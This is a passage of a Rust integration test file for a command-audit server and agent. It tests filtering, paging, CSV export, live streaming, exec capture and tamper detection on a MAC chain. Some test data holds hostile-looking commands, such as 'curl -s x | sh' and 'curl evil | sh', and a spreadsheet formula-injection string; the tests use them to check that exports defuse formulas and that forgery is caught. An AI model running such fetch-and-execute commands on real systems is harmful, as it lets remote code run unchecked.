    let short = list(&server, &viewer, "q=_b");
    assert_eq!(commands(&short), ["echo a_b"]);
    assert_eq!(
        (&short["scanned"], &short["next"]),
        (&json!({ "first_id": 1, "last_id": 6, "complete": true, "reason": "short_term" }), &Value::Null)
    );
    // The host's own time: prefixes, `host_to` takes in the whole of its day.
    assert_eq!(
        q("host_from=2026-11-24&host_to=2026-11-24"),
        ["uptime", "grep 1000 fileXname", "echo a_b", "grep 100% file_name"]
    );
    assert_eq!(q("host_from=2026-11-24T12:00:00"), ["echo axb", "grep 1000 fileXname", "echo a_b"]);
    assert_eq!(q("host_to=2026-11-24%2008:00"), ["uptime", "grep 100% file_name", "ls -l"]);
    assert_eq!(q("host_to=2026-11-23"), ["ls -l"]);
    assert_eq!(q("host_from=2026-11-25"), ["echo axb"]);
    assert_eq!(
        get_as(&server, &viewer, "/api/audit/events?host_from=yesterday"),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            json!({ "error": "must look like 2026-11-24 or 2026-11-24 18:30:00", "field": "host_from" })
        )
    );
    // The server's clock (UTC): every row was received today, none tomorrow.
    let today = omserver::calendar::utc_text(omserver::store::now_ms())[..10].to_owned();
    assert_eq!(q(&format!("from={today}&to={today}")), all);
    assert_eq!(q("to=2020-01-01"), Vec::<String>::new());
    assert_eq!(q("from=2999-01-01%2000:00"), Vec::<String>::new());
    assert_eq!(
        get_as(&server, &viewer, "/api/audit/events?from=2026-11-24%2025:00"),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            json!({ "error": "must be a UTC time like 2026-11-24 or 2026-11-24 18:30", "field": "from" })
        )
    );

    // Pages: newest first with `before`, oldest first with `after`; `next` continues, null at the end.
    let every = ids(&list(&server, &viewer, "limit=1000"));
    assert_eq!(every, vec![6, 5, 4, 3, 2, 1]);
    let page = list(&server, &viewer, "limit=4");
    assert_eq!((ids(&page), &page["next"]), (vec![6, 5, 4, 3], &json!(3)));
    let page = list(&server, &viewer, "limit=4&before=3");
    assert_eq!((ids(&page), &page["next"]), (vec![2, 1], &Value::Null));
    let page = list(&server, &viewer, "limit=3&after=0");
    assert_eq!((ids(&page), &page["next"]), (vec![1, 2, 3], &json!(3)));
    let page = list(&server, &viewer, "limit=3&after=3");
    assert_eq!((ids(&page), &page["next"]), (vec![4, 5, 6], &json!(6)));
    let page = list(&server, &viewer, "limit=3&after=6");
    assert_eq!((ids(&page), &page["next"]), (Vec::<i64>::new(), &Value::Null));
    let page = list(&server, &viewer, "limit=2&after=1&host=localhost&user=bob");
    assert_eq!((ids(&page), &page["next"]), (vec![3, 5], &json!(5)));
    for limit in ["0", "1001", "-1"] {
        assert_eq!(
            get_as(&server, &viewer, &format!("/api/audit/events?limit={limit}")),
            (StatusCode::UNPROCESSABLE_ENTITY, json!({ "error": "must be between 1 and 1000", "field": "limit" })),
            "limit={limit}"
        );
    }
    assert_eq!(list(&server, &viewer, "limit=1")["next"], json!(6));
    let (status, body) = get_as(&server, &viewer, "/api/audit/events?colour=red");
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}

/// Adds a host under a function and app category through the API.
fn add_categorised_host(server: &Server, name: &str, ip: &str, function: &str, app: &str) {
    let (status, row) = server.post("/api/hosts", &json!({ "name": name, "ip": ip, "function": function, "app": app }));
    assert_eq!(status, StatusCode::CREATED, "{row}");
}

#[test]
fn app_categories_narrow_queries_exports_and_the_stream() {
    let server = start();
    add_categorised_host(&server, "web2", "127.0.0.2", "web", "nginx");
    // The same app name under another function category is the same filter.
    add_categorised_host(&server, "web3", "127.0.0.3", "shop", "nginx");
    add_categorised_host(&server, "db1", "127.0.0.4", "db", "mysql");
    let viewer = viewer_token(&server);
    let mysql_live = subscribe(&server, "app=mysql");
    for (host, command) in [("localhost", "on localhost"), ("web2", "on web2"), ("web3", "on web3"), ("db1", "on db1")]
    {
        let token = agent_token(&server, host);
        let batch = json!({ "events": [ev("a", 1, "root", "2026-11-24 10:00:00", command)] });
        assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(1, 0)), "{host}");
    }
    let q = |query: &str| commands(&list(&server, &viewer, query));
    assert_eq!(q("app=nginx"), ["on web3", "on web2"]);
    assert_eq!(q("app=mysql"), ["on db1"]);
    assert_eq!(q("app=nginx,%20mysql"), ["on db1", "on web3", "on web2"]);
    // With hosts as well, both narrow: the named hosts in those categories, possibly none.
    assert_eq!(q("app=nginx&host=web3,db1"), ["on web3"]);
    assert_eq!(q("app=nginx&host=db1"), Vec::<String>::new());
    assert_eq!(q("app="), ["on db1", "on web3", "on web2", "on localhost"]);
    assert_eq!(
        get_as(&server, &viewer, "/api/audit/events?app=nginx,nosuch"),
        (StatusCode::UNPROCESSABLE_ENTITY, json!({ "error": "no host is in app category nosuch", "field": "app" }))
    );
    let response = server
        .client
        .get(format!("{}/api/audit/events.csv?app=mysql", server.base))
        .bearer_auth(&viewer)
        .send()
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let csv = response.text().unwrap();
    assert_eq!(csv.lines().count(), 2, "{csv}");
    assert!(csv.lines().nth(1).unwrap().ends_with(",on db1,"), "{csv}");
    // The stream sends only db1's event, although it was the last of four.
    let event = mysql_live.recv_timeout(Duration::from_secs(1)).expect("db1's event");
    assert_eq!(serde_json::from_str::<Value>(&event["data"]).unwrap()["command"], "on db1");
    assert!(mysql_live.recv_timeout(Duration::from_millis(300)).is_err(), "nothing else is in mysql");
}

#[test]
fn csv_export_quotes_cells_and_defuses_formulas() {
    let server = start();
    // The alerts column: the names of the rules an event matched, `;`-separated (formula-looking ones defused too).
    for (name, pattern) in [("formula", "^="), ("one-plus-one", r"1\+1")] {
        let (status, body) = server.post("/api/audit/rules", &json!({ "name": name, "pattern": pattern }));
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    let token = agent_token(&server, "localhost");
    let batch = json!({ "events": [
        ev("c", 1, "root", "2026-11-24 10:00:01", "echo \"a,b\"\necho 'next line'"),
        ev("c", 2, "root", "2026-11-24 10:00:02", "=HYPERLINK(\"http://x\",\"y\")"),
        ev("c", 3, "root", "2026-11-24 10:00:03", "=1+1"),
        ev("c", 4, "root", "2026-11-24 10:00:04", "plain"),
    ] });
    assert_eq!(post_batch(&server, &token, &batch), (StatusCode::OK, ack(4, 0)));
    let events = all_events(&server);
    let response = server
        .client
        .get(format!("{}/api/audit/events.csv?after=0", server.base))
        .bearer_auth(&server.token)
        .send()
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"audit.csv\"");
    let text = response.text().unwrap();
    let commands =
        ["\"echo \"\"a,b\"\"\necho 'next line'\"", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"", "'=1+1", "plain"];
    let alerts = ["", "formula", "formula;one-plus-one", ""];
    let mut want =
        String::from("id,host,ip,history_id,user,login_user,tty,datetime,received_at,source,command,alerts\r\n");
    for ((e, command), alerts) in events.iter().zip(commands).zip(alerts) {
        // The time received as UTC text, as the console shows it, not epoch milliseconds.
        let received = omserver::calendar::utc_text(e["received_at"].as_i64().unwrap());
        assert!(received.starts_with("20") && received.ends_with(" UTC"), "{received}");
        want.push_str(&format!(
            "{},localhost,127.0.0.1,{},root,,/dev/pts/1,{},{received},agent,{command},{alerts}\r\n",
            e["id"],
            e["history_id"],
            e["datetime"].as_str().unwrap(),
        ));
    }
    assert_eq!(text, want);
    // Filters apply to the export too.
    let (status, body) = server
        .send(server.client.get(format!("{}/api/audit/events.csv?q=plain", server.base)).bearer_auth(&server.token));
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body.as_str().unwrap().lines().count(), 2, "{body}");
}

/// One server-sent event: its fields (`event`, `id`, `data`).
type SseEvent = BTreeMap<String, String>;

/// Subscribes to the live stream and hands its events over a channel (read on a thread).
fn subscribe(server: &Server, query: &str) -> mpsc::Receiver<SseEvent> {
    let client = Client::builder().timeout(Duration::from_secs(30)).build().unwrap();
    let response = client
        .get(format!("{}/api/audit/stream?{query}", server.base))
        .bearer_auth(&server.token)
        .send()
        .expect("subscribe");
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "text/event-stream");
    let (tx, rx) = mpsc::channel();
    thread::spawn(move || {
        let mut event = SseEvent::new();
        for line in BufReader::new(response).lines().map_while(Result::ok) {
            if line.is_empty() {
                if !event.is_empty() && tx.send(std::mem::take(&mut event)).is_err() {
                    return;
                }
            } else if !line.starts_with(':') {
                let (field, value) = line.split_once(':').unwrap_or((&line, ""));
                event.insert(field.to_owned(), value.strip_prefix(' ').unwrap_or(value).to_owned());
            }
        }
    });
    rx
}

#[test]
fn the_live_stream_sends_matching_events_as_they_are_committed() {
    let server = start();
    add_host(&server, "web2", "127.0.0.2");
    // The stream has no time range, paging or limit: naming one is refused, not silently ignored.
    for query in ["limit=5", "from=2014-06-07", "after=3"] {
        let (status, body) = server
            .send(server.client.get(format!("{}/api/audit/stream?{query}", server.base)).bearer_auth(&server.token));
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
    }
    let filtered = subscribe(&server, "host=localhost&user=root");
    let everything = subscribe(&server, "");
    let datetime = "2014-06-07%2022:05:56";
    // Another host, then another user: not for the filtered subscriber.
    assert_eq!(
        legacy_from(&server, SECOND, &legacy_url("1", "127.0.0.2", "root", datetime, "web2%20cmd")),
        (200, "OK".into())
    );
    assert_eq!(legacy(&server, &legacy_url("2", "127.0.0.1", "bob", datetime, "bob%20cmd")), (200, "OK".into()));
    let sent = Instant::now();
    assert_eq!(legacy(&server, &legacy_url("3", "127.0.0.1", "root", datetime, "root%20cmd")), (200, "OK".into()));
    let event = filtered.recv_timeout(Duration::from_secs(1)).expect("the event within 1 s");
    let latency = sent.elapsed();
    println!("live stream latency (legacy GET sent -> SSE event read): {latency:?}");
    assert!(latency < Duration::from_secs(1));
    assert_eq!(event.keys().collect::<Vec<_>>(), ["data", "event", "id"], "{event:?}");
    assert_eq!(event["event"], "audit");
    assert_eq!(event["id"], "3");
    let data: Value = serde_json::from_str(&event["data"]).unwrap();
    assert_eq!(
        data,
        json!({ "id": 3, "host": "localhost", "ip": "127.0.0.1", "history_id": 3, "user": "root", "login_user": null,
                "tty": null, "datetime": "2014-06-07 22:05:56", "received_at": data["received_at"],
                "command": "root cmd", "source": "legacy", "session": null, "argv": null, "cwd": null,
                "exe": null, "exit_code": null, "pid": null, "ppid": null, "euid": null, "auid": null, "alerts": [] })
    );
    assert!(filtered.recv_timeout(Duration::from_millis(300)).is_err(), "nothing else matches");
    let all: Vec<(String, String)> = (0..3)
        .map(|_| everything.recv_timeout(Duration::from_secs(1)).expect("every event"))
        .map(|e| {
            (
                e["id"].clone(),
                serde_json::from_str::<Value>(&e["data"]).unwrap()["command"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        all,
        [("1", "web2 cmd"), ("2", "bob cmd"), ("3", "root cmd")].map(|(i, c)| (i.to_owned(), c.to_owned())).to_vec()
    );
    // Agent events go out too, with the login user filter.
    let carol = subscribe(&server, "user=carol");
    let token = agent_token(&server, "localhost");
    let mut e = ev("s", 1, "root", "2026-11-24 10:00:00", "sudo -i");
    e["login_user"] = json!("carol");
    assert_eq!(post_batch(&server, &token, &json!({ "events": [e] })), (StatusCode::OK, ack(1, 0)));
    let event = carol.recv_timeout(Duration::from_secs(1)).expect("carol's event");
    assert_eq!(serde_json::from_str::<Value>(&event["data"]).unwrap()["login_user"], "carol(0)");
}

// ---------------------------------------------------------------------------------------------------------------
// 4. The real agent

fn agent_binary() -> PathBuf {
    let path = common::target_dir().join("debug").join("omaudit-agent");
    assert!(path.exists(), "{} is missing: run `cargo build -p omaudit-agent` first", path.display());
    path
}

#[test]
fn the_real_agent_delivers_a_prompt_line_once() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let scratch = tempfile::tempdir().unwrap();
    let agent = |args: &[&str]| {
        let out = Command::new(agent_binary())
            .args(args)
            .env("OMAUDIT_CONFIG", "")
            .env("OMAUDIT_SERVER", &server.base)
            .env("OMAUDIT_TOKEN", &token)
            .env("OMAUDIT_SPOOL_DIR", scratch.path().join("spool"))
            .env("OMAUDIT_LOG_DIR", scratch.path().join("log"))
            .stdin(Stdio::null())
            .output()
            .expect("run omaudit-agent");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let line = "  42  root 2026-11-24 10:00:00 ls -l /tmp";
    let (code, _, stderr) = agent(&[line]);
    assert_eq!((code, stderr.as_str()), (Some(0), ""));
    let (code, stdout, stderr) = agent(&["flush"]);
    assert_eq!(code, Some(0), "flush: {stdout}{stderr}");
    assert!(stdout.ends_with("omaudit-agent: 0 event(s) and 0 gap(s) still spooled\n"), "{stdout}");

    let events = all_events(&server);
    assert_eq!(events.len(), 1, "{events:?}");
    let e = &events[0];
    assert_eq!(
        (&e["host"], &e["ip"], &e["history_id"], &e["user"], &e["datetime"], &e["command"], &e["source"], &e["tty"]),
        (
            &json!("localhost"),
            &json!("127.0.0.1"),
            &json!(42),
            &json!("root"),
            &json!("2026-11-24 10:00:00"),
            &json!("ls -l /tmp"),
            &json!("agent"),
            &Value::Null
        )
    );
    // SAFETY: getuid has no preconditions.
    let uid = unsafe { libc::getuid() };
    assert!(e["login_user"].as_str().unwrap().ends_with(&format!("({uid})")), "{e}");

    // The same line at the next (empty) prompt: not stored again.
    assert_eq!(agent(&[line]).0, Some(0));
    let (code, stdout, stderr) = agent(&["flush"]);
    assert_eq!(code, Some(0), "flush: {stdout}{stderr}");
    assert_eq!(all_events(&server).len(), 1);
    // A new line is.
    assert_eq!(agent(&[" 43  root 2026-11-24 10:00:05 echo two"]).0, Some(0));
    assert_eq!(agent(&["flush"]).0, Some(0));
    let events = all_events(&server);
    assert_eq!(events.iter().map(|e| e["command"].as_str().unwrap()).collect::<Vec<_>>(), ["ls -l /tmp", "echo two"]);
}

/// An exec as `omaudit-agent watch` sends it.
fn exec_ev(seq: i64, session: i64, tty: &str, time: &str, argv: Value) -> Value {
    let words: Vec<&str> = argv.as_array().into_iter().flatten().map(|a| a.as_str().unwrap_or("$'...'")).collect();
    let command = if words.is_empty() { "x".to_owned() } else { words.join(" ") };
    json!({ "stream": "w", "seq": seq, "history_id": 0, "user": "root", "login_user": "alice", "uid": 0,
            "tty": tty, "ip": "127.0.0.1", "time": time, "command": command, "source": "execve",
            "session": session, "argv": argv, "cwd": "/srv/app", "exe": "/usr/bin/tool", "pid": 40 + seq,
            "ppid": 1, "euid": 0, "auid": 1000, "exit": if seq == 3 { -2 } else { 0 } })
}

#[test]
fn execs_are_stored_with_their_argument_vector_and_filtered_by_source_and_session() {
    let server = start();
    let token = agent_token(&server, "localhost");
    // A line typed in session 7 on pts/1, the execs of that session in the seconds after it, and one exec of
    // another session at the same time.
    let mut typed = ev("h", 1, "root", "2026-11-24 10:00:00", "make deploy");
    typed["session"] = json!(7);
    let events = json!([
        typed,
        exec_ev(1, 7, "/dev/pts/1", "2026-11-24 10:00:00", json!(["make", "deploy"])),
        exec_ev(2, 7, "/dev/pts/1", "2026-11-24 10:00:03", json!(["sh", "-c", "curl -s x | sh", {"hex": "ff00fe"}])),
        exec_ev(3, 7, "/dev/pts/1", "2026-11-24 10:00:04", json!(["./missing"])),
        exec_ev(4, 8, "/dev/pts/2", "2026-11-24 10:00:01", json!(["id"])),
    ]);
    assert_eq!(post_batch(&server, &token, &json!({ "events": events })), (StatusCode::OK, ack(5, 0)));

    let execs = list(&server, &server.token, "source=execve&after=0");
    let execs = execs["events"].as_array().unwrap();
    assert_eq!(execs.len(), 4);
    let e = &execs[1];
    assert_eq!(e["source"], "execve");
    assert_eq!(e["argv"], json!(["sh", "-c", "curl -s x | sh", {"hex": "ff00fe"}]));
    assert_eq!(
        (&e["cwd"], &e["exe"], &e["session"], &e["exit_code"]),
        (&json!("/srv/app"), &json!("/usr/bin/tool"), &json!(7), &json!(0))
    );
    assert_eq!(e["login_user"], "alice(0)");
    assert_eq!(execs[2]["exit_code"], -2);
    assert_eq!((&e["pid"], &e["ppid"], &e["euid"], &e["auid"]), (&json!(42), &json!(1), &json!(0), &json!(1000)));
    let history = list(&server, &server.token, "source=history");
    assert_eq!(commands(&history), ["make deploy"]);
    assert_eq!(history["events"][0]["argv"], Value::Null);
    assert_eq!(history["events"][0]["session"], 7);

    // What ran for the typed line: its session and terminal, from its time on.
    let ran = list(
        &server,
        &server.token,
        "source=execve&session=7&tty=/dev/pts/1&host_from=2026-11-24%2010:00:00&host_to=2026-11-24%2010:00:10&after=0",
    );
    let argv0: Vec<&Value> = ran["events"].as_array().unwrap().iter().map(|e| &e["argv"][0]).collect();
    assert_eq!(argv0, [&json!("make"), &json!("sh"), &json!("./missing")]);

    let (status, body) = get_as(&server, &server.token, "/api/audit/events?source=kernel");
    assert_eq!((status, &body["field"]), (StatusCode::UNPROCESSABLE_ENTITY, &json!("source")), "{body}");

    // An exec without an argument vector, or with one that is not a list of arguments, is refused alone.
    let mut no_argv = exec_ev(5, 7, "", "2026-11-24 10:00:05", json!(["x"]));
    no_argv.as_object_mut().unwrap().remove("argv");
    let bad = [
        no_argv,
        exec_ev(6, 7, "", "2026-11-24 10:00:05", json!([])),
        exec_ev(7, 7, "", "2026-11-24 10:00:05", json!(["a\u{0}b"])),
        exec_ev(8, 7, "", "2026-11-24 10:00:05", json!([{"hex": "zz"}])),
        exec_ev(9, 7, "", "2026-11-24 10:00:05", json!("ls -l")),
        json!({ "stream": "w", "seq": 10, "history_id": 0, "user": "root", "time": "2026-11-24 10:00:05",
                "command": "x", "source": "ebpf" }),
    ];
    let (status, body) = post_batch(&server, &token, &json!({ "events": bad }));
    assert_eq!((status, &body["stored"]), (StatusCode::OK, &json!(0)), "{body}");
    let fields: Vec<&str> = body["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["reason"].as_str().unwrap().split(':').next().unwrap())
        .collect();
    assert_eq!(fields, ["argv", "argv", "argv", "argv", "argv", "source"], "{body}");

    // The chain covers the exec fields: an edited argument vector is found.
    let out = cli(&server, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_eq!(
        db_exec(&server, "UPDATE server_history SET argv = '[\"sh\",\"-c\",\"true\"]' WHERE seq = 2 AND stream = 'w'"),
        1
    );
    let out = cli(&server, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
}

/// `omaudit-agent watch` (root, kernel audit) delivering to the running server: a command run in a login
/// session arrives with `source = "execve"` and its argument vector. The watcher removes its rules at SIGTERM.
#[test]
fn the_real_watcher_delivers_execs() {
    let server = start();
    let token = agent_token(&server, "localhost");
    let scratch = tempfile::tempdir().unwrap();
    let mut watcher = Command::new(agent_binary())
        .arg("watch")
        .env("OMAUDIT_CONFIG", "")
        .env("OMAUDIT_SERVER", &server.base)
        .env("OMAUDIT_TOKEN", &token)
        .env("OMAUDIT_SPOOL_DIR", scratch.path().join("spool"))
        .env("OMAUDIT_MANAGE_RULES", "true")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start omaudit-agent watch");
    let stderr = BufReader::new(watcher.stderr.take().unwrap());
    let (tx, rx) = mpsc::channel();
    thread::spawn(move || {
        for line in stderr.lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut seen = Vec::new();
    while !seen.iter().any(|l: &String| l.contains("watch: ready")) {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(line) => seen.push(line),
            Err(_) => {
                let _ = watcher.kill();
                panic!("the watcher did not start (it needs root and the kernel's audit netlink): {seen:?}");
            }
        }
    }
    let mark = format!("om-watch-{}", std::process::id());
    let out = Command::new("/bin/sh")
        .arg("-c")
        .arg("echo 0 > /proc/self/loginuid && cd /tmp && exec /bin/echo \"$0\" 'a b'")
        .arg(&mark)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let start = Instant::now();
    let found = loop {
        let events = list(&server, &server.token, "source=execve&after=0");
        let hit = events["events"].as_array().unwrap().iter().find(|e| e["argv"][1] == json!(mark)).cloned();
        if let Some(hit) = hit {
            break hit;
        }
        assert!(start.elapsed() < Duration::from_secs(20), "the exec did not arrive");
        thread::sleep(Duration::from_millis(200));
    };
    // SAFETY: kill on our own child's pid.
    unsafe { libc::kill(watcher.id() as libc::pid_t, libc::SIGTERM) };
    let status = watcher.wait().unwrap();
    assert!(status.success(), "{status}");
    assert_eq!(found["argv"], json!(["/bin/echo", mark, "a b"]));
    assert_eq!(found["command"], json!(format!("/bin/echo {mark} 'a b'")));
    assert_eq!(
        (&found["cwd"], &found["exe"], &found["exit_code"]),
        (&json!("/tmp"), &json!("/usr/bin/echo"), &json!(0))
    );
    assert_eq!(
        (&found["host"], &found["source"], &found["user"]),
        (&json!("localhost"), &json!("execve"), &json!("root"))
    );
    assert!(found["login_user"].as_str().unwrap().starts_with("root("), "{found}");
    assert_eq!((&found["auid"], &found["euid"]), (&json!(0), &json!(0)));
    assert!(found["pid"].as_i64().unwrap() > 1 && found["ppid"].as_i64().unwrap() >= 1, "{found}");
    let rules = Command::new("auditctl").arg("-l").output();
    if let Ok(rules) = rules {
        assert!(!String::from_utf8_lossy(&rules.stdout).contains("omaudit-exec"), "rules left behind");
    }
}

// ---------------------------------------------------------------------------------------------------------------
// 5. omserver audit verify

/// A server with five rows: three on localhost, two on web2 (ids 1-3 and 4-5). Verified intact first.
fn trail() -> (Server, i64) {
    let server = start();
    add_host(&server, "web2", "127.0.0.2");
    let local = agent_token(&server, "localhost");
    let web2 = agent_token(&server, "web2");
    let three: Vec<Value> = (1..=3).map(|s| ev("v", s, "root", "2026-11-24 10:00:00", &format!("cmd {s}"))).collect();
    assert_eq!(post_batch(&server, &local, &json!({ "events": three })), (StatusCode::OK, ack(3, 0)));
    let two: Vec<Value> = (1..=2).map(|s| ev("v", s, "root", "2026-11-24 10:00:00", &format!("web {s}"))).collect();
    assert_eq!(post_batch(&server, &web2, &json!({ "events": two })), (StatusCode::OK, ack(2, 0)));
    let out = cli(&server, &["audit", "verify"]);
    assert_eq!(
        (out.status.code(), out.stdout.as_str()),
        (Some(0), format!("5 rows on 2 hosts checked, 0 problems\n{}", intact_activity_line(&server)).as_str()),
        "{out:?}"
    );
    let (status, report) = server.get("/api/audit/verify");
    let localhost = host_id(&server, "localhost");
    let chains = json!([{ "host_id": localhost, "host": "localhost", "rows": 3, "problems": 0 },
                        { "host_id": host_id(&server, "web2"), "host": "web2", "rows": 2, "problems": 0 }]);
    let activity = json!({ "rows": db_ints(&server, "SELECT COUNT(*) FROM activity")[0], "problems": [] });
    let whole = json!({ "hosts": 2, "rows": 5, "findings": [], "chains": chains, "activity": activity });
    assert_eq!((status, report), (StatusCode::OK, whole));
    (server, localhost)
}

fn verify_fails_with(server: &Server, lines: &[String]) {
    let out = cli(server, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    // The activity log is checked too: nothing here touched it, so it is intact.
    let mut expected: String = lines.iter().map(|l| format!("{l}\n")).collect();
    expected.push_str(&intact_activity_line(server));
    assert_eq!(out.stdout, expected, "{out:?}");
}

#[test]
fn verify_names_an_edited_row() {
    let (server, h) = trail();
    assert_eq!(db_exec(&server, "UPDATE server_history SET history_command = 'cmd 2 (harmless)' WHERE id = 2"), 1);
    verify_fails_with(
        &server,
        &[
            format!("host localhost (#{h}) at chain position 2: row id 2 was edited or forged: its contents do not match its MAC"),
            "5 rows on 2 hosts checked, 1 problems".into(),
        ],
    );
}

#[test]
fn verify_reports_a_deleted_middle_row() {
    let (server, h) = trail();
    assert_eq!(db_exec(&server, "DELETE FROM server_history WHERE id = 2"), 1);
    verify_fails_with(
        &server,
        &[
            format!("host localhost (#{h}) at chain position 3: 1 row(s) missing before this one (deleted): chain positions 2..2"),
            "4 rows on 2 hosts checked, 1 problems".into(),
        ],
    );
}

#[test]
fn verify_reports_deleted_newest_rows() {
    let (server, h) = trail();
    assert_eq!(db_exec(&server, "DELETE FROM server_history WHERE id IN (2, 3)"), 2);
    verify_fails_with(
        &server,
        &[
            format!(
                "host localhost (#{h}) at chain position 2: the newest 2 row(s) were deleted: the chain head is at 3"
            ),
            "3 rows on 2 hosts checked, 1 problems".into(),
        ],
    );
}

#[test]
fn verify_catches_a_forged_row_with_a_copied_hash() {
    let (server, h) = trail();
    // A new row after the head, linked to it and carrying row 3's own MAC; then the head moved to it.
    let inserted = db_exec(
        &server,
        "INSERT INTO server_history (host_id, history_ip, history_id, history_user, login_user, tty, history_datetime, \
         received_at, history_command, source, stream, seq, chain_seq, row_hash) \
         SELECT host_id, history_ip, history_id + 1, history_user, login_user, tty, history_datetime, received_at, \
         'curl evil | sh', source, stream, seq + 1, chain_seq + 1, row_hash \
         FROM server_history WHERE id = 3",
    );
    assert_eq!(inserted, 1);
    verify_fails_with(
        &server,
        &[
            format!("host localhost (#{h}) at chain position 4: row id 6 was edited or forged: its contents do not match its MAC"),
            format!("host localhost (#{h}) at chain position 3: the chain head (3) does not match the last row (4)"),
            "6 rows on 2 hosts checked, 2 problems".into(),
        ],
    );
    let moved = db_exec(
        &server,
        &format!(
            "UPDATE audit_chain SET last_seq = 4, last_hash = (SELECT row_hash FROM server_history WHERE id = 6) \
             WHERE host_id = {h}"
        ),
    );
    assert_eq!(moved, 1);
    verify_fails_with(
        &server,
        &[
            format!("host localhost (#{h}) at chain position 4: row id 6 was edited or forged: its contents do not match its MAC"),
            "6 rows on 2 hosts checked, 1 problems".into(),
        ],
    );
}

// ---------------------------------------------------------------------------------------------------------------
// 6. Three dialects, in-process

mod dialects {
    use std::{sync::Arc, time::Duration};

    use omserver::{
        audit::{chain::Finding, AgentBatch, AuditConfig, AuditService},
        store::{AuditQuery, AuditRow, Dialect, Store},
    };
    use serde_json::{json, Value};
    use sqlx::Connection;

    use super::common::scratch::{execute as raw, on_each_dialect, plain_host};

    const CONNECT_LIMIT: Duration = Duration::from_secs(10);

    /// Batch `b`'s event `s` (1..=250): what it carries, so that expectations are computed, not guessed.
    struct Spec {
        stream: String,
        seq: i64,
        user: &'static str,
        login: Option<&'static str>,
        time: String,
        command: String,
    }

    fn spec(b: usize, s: i64) -> Spec {
        Spec {
            stream: format!("stream-{b}"),
            seq: s,
            user: if s % 5 == 0 { "alice" } else { "root" },
            login: (s % 7 == 0).then_some("carol"),
            time: format!("2026-11-{:02} {:02}:{:02}:00", 20 + b, s / 60, s % 60),
            command: match s % 10 {
                3 => format!("grep 100% log{b}_{s}"),
                4 => format!("grep 1000 log{b}x{s}"),
                6 => format!("echo a_b {b} {s}"),
                8 => format!("echo axb {b} {s}"),
                _ => format!("cmd {b} {s}"),
            },
        }
    }

    fn batch(b: usize) -> AgentBatch {
        let events: Vec<Value> = (1..=250)
            .map(|s| {
                let e = spec(b, s);
                json!({ "stream": e.stream, "seq": e.seq, "history_id": e.seq, "user": e.user,
                        "login_user": e.login.unwrap_or(""), "uid": 0, "tty": "/dev/pts/0", "ip": "203.0.113.9",
                        "time": e.time, "command": e.command })
            })
            .collect();
        serde_json::from_value(json!({ "events": events })).unwrap()
    }

    fn key_of(row: &AuditRow) -> (String, i64) {
        (row.stream.clone().unwrap(), row.seq.unwrap())
    }

    fn keys(rows: &[AuditRow]) -> Vec<(String, i64)> {
        let mut k: Vec<_> = rows.iter().map(key_of).collect();
        k.sort();
        k
    }

    fn expected(pick: impl Fn(usize, &Spec) -> bool) -> Vec<(String, i64)> {
        let mut k: Vec<_> = (0..4)
            .flat_map(|b| (1..=250).map(move |s| (b, spec(b, s))))
            .filter(|(b, e)| pick(*b, e))
            .map(|(_, e)| (e.stream, e.seq))
            .collect();
        k.sort();
        k
    }

    /// Compares (stream, seq) lists, saying briefly how they differ.
    fn same(what: &str, got: &[(String, i64)], want: &[(String, i64)]) {
        if got != want {
            let missing: Vec<_> = want.iter().filter(|k| !got.contains(k)).take(5).collect();
            let extra: Vec<_> = got.iter().filter(|k| !want.contains(k)).take(5).collect();
            panic!(
                "{what}: {} rows, want {}; missing e.g. {missing:?}; unexpected e.g. {extra:?}",
                got.len(),
                want.len()
            );
        }
    }

    fn query(limit: i64) -> AuditQuery {
        AuditQuery { limit, ..AuditQuery::default() }
    }

    async fn check(dialect: Dialect, url: &str) {
        let store =
            tokio::time::timeout(CONNECT_LIMIT * 3, Store::connect(url)).await.expect("connect in time").unwrap();
        let host = plain_host;
        let a = store.add_host(&host("alpha", "10.1.0.1")).await.unwrap().id;
        let b = store.add_host(&host("beta", "10.1.0.2")).await.unwrap().id;
        let c = store.add_host(&host("gamma", "2001:db8::7")).await.unwrap().id;
        let audit: Arc<AuditService> = AuditService::start(
            store.clone(),
            store.audit_sink().unwrap(),
            AuditConfig::default(),
            b"test chain key".to_vec(),
        )
        .unwrap();
        let host_of = move |i: usize| if i < 2 { a } else { b };

        // 1000 events in 4 concurrent batches, then the same 4 again, concurrently.
        for round in 0..2 {
            let tasks: Vec<_> = (0..4)
                .map(|i| {
                    let audit = audit.clone();
                    tokio::spawn(async move { audit.ingest_agent(Some(host_of(i)), batch(i)).await })
                })
                .collect();
            for task in tasks {
                let ack = task.await.unwrap().unwrap();
                let want = if round == 0 { (250, 0) } else { (0, 250) };
                assert_eq!((ack.stored, ack.duplicates, ack.rejected.len()), (want.0, want.1, 0), "round {round}");
            }
        }
        // A new event, and one whose login user and uid together would overflow the column (64 characters).
        let mixed: AgentBatch = serde_json::from_value(json!({ "events": [
